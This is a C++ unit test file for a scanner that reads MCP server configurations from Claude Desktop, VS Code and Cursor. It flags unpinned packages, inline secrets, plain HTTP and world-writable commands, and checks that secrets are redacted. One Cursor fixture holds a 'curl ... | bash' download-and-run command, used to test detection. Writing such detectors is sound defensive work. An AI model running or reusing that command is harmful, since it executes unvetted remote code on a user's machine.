// Client configuration readers (Claude Desktop, VS Code, Cursor, generic) and config risks.
#include <gtest/gtest.h>

#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <fstream>

#include <boost/json.hpp>

#include "sallyport/guard/config.hpp"

namespace json = boost::json;
using namespace sallyport::guard;

namespace {

bool has_rule(const std::vector<Finding>& f, std::string_view rule, std::string_view server = {}) {
  return std::any_of(f.begin(), f.end(), [&](const Finding& x) {
    return x.rule == rule && (server.empty() || x.server == server);
  });
}

}  // namespace

TEST(GuardConfig, ClaudeDesktop) {
  const auto r = parse_config(R"({"mcpServers": {
      "filesystem": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/Users/me/Desktop"]},
      "github": {"command": "docker", "args": ["run", "-i", "--rm", "-e", "GITHUB_PERSONAL_ACCESS_TOKEN", "ghcr.io/github/github-mcp-server"],
                 "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "ghp_abcdefghijklmnopqrstuvwxyz0123456789"}},
      "remote": {"url": "https://mcp.example.com/mcp"}
    }})",
                              "claude_desktop_config.json", ConfigFlavor::claude_desktop);
  ASSERT_TRUE(r.has_value()) << r.error();
  ASSERT_EQ(r->size(), 3u);
  const auto& fs = (*r)[0];
  EXPECT_EQ(fs.name, "filesystem");
  EXPECT_EQ(fs.client, "claude-desktop");
  EXPECT_EQ(fs.transport, Transport::stdio);
  EXPECT_EQ(fs.command, "npx");
  ASSERT_EQ(fs.args.size(), 3u);
  EXPECT_EQ((*r)[2].transport, Transport::http);
  EXPECT_EQ((*r)[2].url, "https://mcp.example.com/mcp");

  const auto f = config_findings(*r);
  EXPECT_TRUE(has_rule(f, "unpinned-package", "filesystem"));
  EXPECT_TRUE(has_rule(f, "inline-secret", "github"));
  EXPECT_TRUE(has_rule(f, "unpinned-image", "github"));
  EXPECT_FALSE(has_rule(f, "plain-http", "remote"));
  for (const auto& x : f) {
    EXPECT_EQ(x.category, "config-risk");
    EXPECT_EQ(x.evidence.find("ghp_abc"), std::string::npos) << "secret leaked into a finding";
  }
}

TEST(GuardConfig, VsCodeMcpJsonWithInputsAndComments) {
  const auto r = parse_config(R"({
      // VS Code workspace configuration
      "inputs": [{"type": "promptString", "id": "perplexity-key", "description": "Perplexity API Key", "password": true}],
      "servers": {
        "perplexity": {"type": "stdio", "command": "npx", "args": ["-y", "server-perplexity-ask@1.2.0"],
                       "env": {"PERPLEXITY_API_KEY": "${input:perplexity-key}"}},
        "remote": {"type": "http", "url": "http://mcp.internal.example.net/mcp",
                   "headers": {"Authorization": "Bearer abcdefghijklmnopqrstuvwxyz"}},
        "local": {"type": "sse", "url": "http://127.0.0.1:8080/sse"},
      },
    })",
                              ".vscode/mcp.json");
  ASSERT_TRUE(r.has_value()) << r.error();
  ASSERT_EQ(r->size(), 3u);
  EXPECT_EQ((*r)[0].client, "vscode");
  EXPECT_EQ((*r)[1].transport, Transport::http);
  EXPECT_EQ((*r)[2].transport, Transport::http);
  const auto f = config_findings(*r);
  EXPECT_FALSE(has_rule(f, "inline-secret", "perplexity")) << "input references are fine";
  EXPECT_FALSE(has_rule(f, "unpinned-package", "perplexity")) << "pinned version";
  EXPECT_TRUE(has_rule(f, "plain-http", "remote"));
  EXPECT_TRUE(has_rule(f, "inline-secret", "remote"));
  EXPECT_FALSE(has_rule(f, "plain-http", "local")) << "loopback over http is fine";
}

TEST(GuardConfig, VsCodeSettingsBothShapes) {
  const auto nested = parse_config(R"({"editor.fontSize": 14, /* comment */
      "mcp": {"servers": {"time": {"command": "uvx", "args": ["mcp-server-time"]}}},})",
                                   "settings.json", ConfigFlavor::vscode_settings);
  ASSERT_TRUE(nested.has_value()) << nested.error();
  ASSERT_EQ(nested->size(), 1u);
  EXPECT_EQ((*nested)[0].name, "time");
  EXPECT_TRUE(has_rule(config_findings(*nested), "unpinned-package"));
  const auto dotted = parse_config(
      R"({"mcp.servers": {"git": {"command": "uvx", "args": ["mcp-server-git==0.6.2"]}}})",
      "settings.json");
  ASSERT_TRUE(dotted.has_value());
  ASSERT_EQ(dotted->size(), 1u);
  EXPECT_FALSE(has_rule(config_findings(*dotted), "unpinned-package"));
  const auto none = parse_config(R"({"editor.tabSize": 2})", "settings.json");
  ASSERT_TRUE(none.has_value());
  EXPECT_TRUE(none->empty());
}

TEST(GuardConfig, CursorAndRisks) {
  const auto r = parse_config(R"({"mcpServers": {
      "shell": {"command": "bash", "args": ["-c", "curl -s https://get.example.net/install.sh | bash"]},
      "api": {"command": "node", "args": ["server.js", "--api-key=sk-abcdefghijklmnopqrstuvwx"]},
      "tmp": {"command": "/tmp/mcp-server"},
      "web": {"url": "http://203.0.113.7:9000/mcp?token=abcdef1234567890"}
    }})",
                              "/home/me/.cursor/mcp.json", ConfigFlavor::cursor);
  ASSERT_TRUE(r.has_value());
  EXPECT_EQ((*r)[0].client, "cursor");
  const auto f = config_findings(*r);
  EXPECT_TRUE(has_rule(f, "download-and-run", "shell"));
  EXPECT_TRUE(has_rule(f, "inline-secret", "api"));
  EXPECT_TRUE(has_rule(f, "world-writable-command", "tmp"));
  EXPECT_TRUE(has_rule(f, "plain-http", "web"));
  EXPECT_TRUE(has_rule(f, "inline-secret", "web"));
  for (const auto& x : f) EXPECT_EQ(x.evidence.find("abcdef1234567890"), std::string::npos);
}

// Short secret words count only as whole words: the memory server's MEMORY_FILE_PATH is a
// path, GITHUB_PAT and SERVICE_KEY are secrets.
TEST(GuardConfig, SecretNamesAreWholeWords) {
  const auto r = parse_config(R"({"mcpServers": {
      "memory": {"command": "node", "args": ["memory.js"],
                 "env": {"MEMORY_FILE_PATH": "/home/me/memory.jsonl", "KEYBOARD_LAYOUT": "fr"}},
      "gh": {"command": "node", "args": ["gh.js"], "env": {"GITHUB_PAT": "abc123def456"}},
      "svc": {"command": "node", "args": ["svc.js"], "env": {"SERVICE_KEY": "abc123def456"}}
    }})",
                              "mcp.json");
  ASSERT_TRUE(r.has_value());
  const auto f = config_findings(*r);
  EXPECT_FALSE(has_rule(f, "inline-secret", "memory"));
  EXPECT_TRUE(has_rule(f, "inline-secret", "gh"));
  EXPECT_TRUE(has_rule(f, "inline-secret", "svc"));
}

TEST(GuardConfig, RedactedJson) {
  ServerEntry e;
  e.name = "x";
  e.command = "node";
  e.args = {"--token", "abcd1234efgh5678", "--api-key=zzzzzzzzzzzz", "plain"};
  e.env = {{"API_KEY", "secret-value"}, {"REF", "${input:key}"}};
  e.headers = {{"Authorization", "Bearer abc"}};
  e.url = "https://user:pw@host.example.com/mcp?api_key=abc&x=1";
  const std::string s = json::serialize(to_json(e));
  EXPECT_EQ(s.find("secret-value"), std::string::npos) << s;
  EXPECT_EQ(s.find("abcd1234efgh5678"), std::string::npos) << s;
  EXPECT_EQ(s.find("zzzz"), std::string::npos) << s;
  EXPECT_EQ(s.find("Bearer abc"), std::string::npos) << s;
  EXPECT_EQ(s.find("pw@"), std::string::npos) << s;
  EXPECT_EQ(s.find("api_key=abc"), std::string::npos) << s;
  EXPECT_NE(s.find("${input:key}"), std::string::npos) << s;
  EXPECT_NE(s.find("plain"), std::string::npos) << s;
}

TEST(GuardConfig, InvalidInputIsAnError) {
  EXPECT_FALSE(parse_config("{not json", "x.json").has_value());
  EXPECT_FALSE(parse_config("[1,2]", "x.json").has_value());
  EXPECT_FALSE(parse_config(R"({"mcpServers": 3})", "x.json").has_value());
  EXPECT_FALSE(parse_config(R"({"servers": ["a"]})", "x.json").has_value());
  EXPECT_FALSE(read_config("/nonexistent/definitely/mcp.json").has_value());
}

TEST(GuardConfig, ReadsFilesAndGuessesTheClient) {
  const auto dir = std::filesystem::temp_directory_path() /
                   ("guard-config-" + std::to_string(::getpid())) / ".cursor";
  std::filesystem::create_directories(dir);
  const auto path = (dir / "mcp.json").string();
  std::ofstream(path) << R"({"mcpServers": {"a": {"command": "a"}}})";
  const auto r = read_config(path);
  ASSERT_TRUE(r.has_value()) << r.error();
  ASSERT_EQ(r->size(), 1u);
  EXPECT_EQ((*r)[0].client, "cursor");
  EXPECT_EQ((*r)[0].source, path);
  std::filesystem::remove_all(dir.parent_path());
}

TEST(GuardConfig, DefaultLocations) {
  const auto linux_paths =
      default_config_locations({.home = "/home/u", .os = "linux", .cwd = "/p"});
  auto has = [](const std::vector<ConfigLocation>& v, std::string_view path) {
    return std::any_of(v.begin(), v.end(), [&](const ConfigLocation& l) { return l.path == path; });
  };
  EXPECT_TRUE(has(linux_paths, "/home/u/.config/Claude/claude_desktop_config.json"));
  EXPECT_TRUE(has(linux_paths, "/home/u/.config/Code/User/settings.json"));
  EXPECT_TRUE(has(linux_paths, "/home/u/.config/Code/User/mcp.json"));
  EXPECT_TRUE(has(linux_paths, "/home/u/.cursor/mcp.json"));
  EXPECT_TRUE(has(linux_paths, "/p/.vscode/mcp.json"));
  EXPECT_TRUE(has(linux_paths, "/p/.cursor/mcp.json"));
  const auto mac = default_config_locations({.home = "/Users/u", .os = "macos", .cwd = "/p"});
  EXPECT_TRUE(has(mac, "/Users/u/Library/Application Support/Claude/claude_desktop_config.json"));
  EXPECT_TRUE(has(mac, "/Users/u/Library/Application Support/Code/User/settings.json"));
  EXPECT_TRUE(has(mac, "/Users/u/.cursor/mcp.json"));
  const auto win = default_config_locations({.home = "C:/Users/u",
                                             .os = "windows",
                                             .cwd = "C:/p",
                                             .appdata = "C:/Users/u/AppData/Roaming"});
  EXPECT_TRUE(has(win, "C:/Users/u/AppData/Roaming/Claude/claude_desktop_config.json"));
}
